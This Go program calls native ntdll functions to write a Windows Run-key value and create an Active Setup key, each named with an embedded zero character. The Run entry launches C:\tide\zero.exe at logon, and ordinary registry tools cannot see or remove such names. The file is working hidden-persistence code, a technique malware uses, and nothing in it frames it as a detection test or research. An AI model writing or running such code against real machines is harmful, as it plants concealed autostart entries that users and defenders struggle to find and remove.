// Command zeronames writes what no interface but the kernel's own can: a value whose name holds a zero
// character, into the user's Run key, and a key of such a name below Active Setup.
package main

import (
	"fmt"
	"os"
	"unsafe"

	"golang.org/x/sys/windows"
	"golang.org/x/sys/windows/registry"
)

type name struct {
	length, room uint16
	buffer       *uint16
}

func counted(text string) *name {
	units := make([]uint16, len(text)+1)
	for k, c := range []byte(text) {
		units[k] = uint16(c)
	}
	return &name{uint16(2 * len(text)), uint16(2 * len(text)), &units[0]}
}

func main() {
	ntdll := windows.NewLazySystemDLL("ntdll.dll")
	k, _, err := registry.CreateKey(registry.CURRENT_USER, `Software\Microsoft\Windows\CurrentVersion\Run`,
		registry.SET_VALUE)
	if err == nil {
		command := windows.StringToUTF16(`C:\tide\zero.exe`)
		r, _, _ := ntdll.NewProc("NtSetValueKey").Call(uintptr(k), uintptr(unsafe.Pointer(counted("Tide\x00 hidden"))),
			0, registry.SZ, uintptr(unsafe.Pointer(&command[0])), uintptr(2*len(command)))
		if r != 0 {
			err = fmt.Errorf("NtSetValueKey: %#x", r)
		}
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	setup, _, err := registry.CreateKey(registry.LOCAL_MACHINE, `Software\Microsoft\Active Setup\Installed Components`,
		registry.ALL_ACCESS)
	if err == nil {
		type attributes struct {
			length      uint32
			root        windows.Handle
			name        *name
			attributes  uint32
			security, q uintptr
		}
		a := attributes{root: windows.Handle(setup), name: counted("{zero}\x00"), attributes: 0x40}
		a.length = uint32(unsafe.Sizeof(a))
		var made windows.Handle
		r, _, _ := ntdll.NewProc("NtCreateKey").Call(uintptr(unsafe.Pointer(&made)), uintptr(registry.ALL_ACCESS),
			uintptr(unsafe.Pointer(&a)), 0, 0, 0, 0)
		if r != 0 {
			err = fmt.Errorf("NtCreateKey: %#x", r)
		}
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
}
